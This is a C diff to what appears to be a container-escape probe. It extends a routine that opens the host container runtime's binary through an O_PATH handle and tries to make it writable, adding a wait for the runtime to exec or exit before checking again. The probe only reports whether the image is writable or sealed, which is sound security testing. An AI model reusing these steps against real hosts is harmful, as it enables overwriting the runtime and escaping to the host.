@@ -59,12 +59,13 @@ static void report(const char *what, const char *how, int fd)
            writable ? "WRITABLE" : "sealed");
 }
 
-static void attack(const char *path)
+/* Returns the O_PATH handle on the image (or -1), kept for a later try. */
+static int attack(const char *path)
 {
     int fd = open(path, O_PATH | O_CLOEXEC);
     if (fd < 0) {
         printf("%s: open O_PATH: %s\n", path, strerror(errno));
-        return;
+        return -1;
     }
     report(path, "as-is", fd);
     if (setattr_rw(fd) == 0)
@@ -81,7 +82,7 @@ static void attack(const char *path)
             printf("%s clone+setattr: %s\n", path, strerror(errno));
         close(c);
     }
-    close(fd);
+    return fd;
 }
 
 static int same_file(const char *a, const char *b)
@@ -108,8 +109,20 @@ int main(int argc, char **argv)
                 if (stat(exe, &st) != 0 || same_file(exe, "/proc/self/exe") ||
                     same_file(exe, "/bin/busybox"))
                     continue;
-                attack(exe);
+                int held = attack(exe);
                 closedir(d);
+                /* The classic race: once the runtime no longer runs its
+                 * image (it exec'd or exited), ETXTBSY is gone; only the
+                 * seal still refuses a write through the kept handle. */
+                while (held >= 0 && time(NULL) < end) {
+                    char link[300];
+                    snprintf(link, sizeof link, "/proc/self/fd/%d", held);
+                    if (!same_file(exe, link))
+                        break;
+                    usleep(10000);
+                }
+                if (held >= 0)
+                    report(exe, "after-exec", held);
                 /* Stay: as pid 1 our exit would kill the namespace. */
                 while (time(NULL) < end)
                     sleep(1);
@@ -121,7 +134,10 @@ int main(int argc, char **argv)
         printf("no runtime process seen\n");
         return 0;
     }
-    for (int i = 1; i < argc; i++)
-        attack(argv[i]);
+    for (int i = 1; i < argc; i++) {
+        int fd = attack(argv[i]);
+        if (fd >= 0)
+            close(fd);
+    }
     return 0;
 }
